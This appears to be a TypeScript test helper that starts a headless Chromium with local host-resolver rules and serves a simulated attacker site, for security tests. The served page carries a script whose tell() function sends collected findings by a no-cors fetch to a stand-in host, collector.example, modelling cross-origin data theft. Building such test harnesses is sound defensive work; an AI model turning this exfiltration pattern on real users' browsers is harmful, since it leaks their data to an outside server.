import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { text } from 'node:stream/consumers';
import { installChromium } from '../../scripts/install-chromium.ts';
import { type Scope, temporaryDirectory } from '../e2e/temporary-directory.ts';

// Nothing that a browser does for itself: it is on a closed network, and would wait for it.
const QUIET = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--disable-dev-shm-usage',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
];

/** Opens a page in a new headless browser, in which these names lead to this machine. It ends with the scope. */
export async function openPage(scope: Scope, url: string, names: readonly string[]): Promise<void> {
  const program = await installChromium();
  const rules = names.map((name) => `MAP ${name} 127.0.0.1`).join(', ');
  const profile = await temporaryDirectory(scope);
  // The test runner's options for Node.js are nothing to a browser.
  const child = spawn(program, [...QUIET, `--user-data-dir=${profile}`, `--host-resolver-rules=${rules}`, url], {
    stdio: 'ignore',
    detached: true,
    env: { PATH: process.env['PATH'], HOME: profile },
  });
  scope.teardown(async () => {
    const closed = once(child, 'close');
    // It is a family of processes, each of which may still write.
    if (child.pid !== undefined) process.kill(-child.pid, 'SIGKILL');
    await closed;
  });
}

/** What a page has found out. */
export type Findings = Readonly<Record<string, string>>;

/** A server of pages of ours, as an attacker has one. */
export interface Site {
  readonly port: number;
  /** Requests so far. */
  readonly visits: () => number;
  /** What the script of the page told. */
  readonly told: Promise<Findings>;
  close(): Promise<void>;
}

/**
 * @param script of its only page. `tell(findings)` ends it: it goes to the site's own server by a name that stays.
 * @param teller the site whose server is told, where it is another one
 */
export async function openSite(scope: Scope, script: string, teller?: Site): Promise<Site> {
  const { promise: told, resolve } = Promise.withResolvers<Findings>();
  let visits = 0;
  const answer = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
    visits++;
    if (request.url === '/told') {
      resolve(JSON.parse(await text(request)));
      response.writeHead(204, { 'access-control-allow-origin': '*' }).end();
      return;
    }
    const place = `http://collector.example:${teller?.port ?? portOf(server)}/told`;
    const tell = `const tell = (findings) => fetch('${place}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(findings) });`;
    response.writeHead(200, { 'content-type': 'text/html' });
    response.end(`<!doctype html><title>a page</title><script type="module">${tell}\n${script}</script>`);
  };
  const server = createServer((request, response) => void answer(request, response)).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const close = async (): Promise<void> => {
    if (!server.listening) return;
    const closed = once(server, 'close');
    server.close();
    server.closeAllConnections();
    await closed;
  };
  scope.teardown(close);
  return { port: portOf(server), visits: () => visits, told, close };
}

function portOf(server: Server): number {
  const address = server.address();
  if (typeof address !== 'object' || address === null) throw new TypeError('the site does not listen');
  return address.port;
}
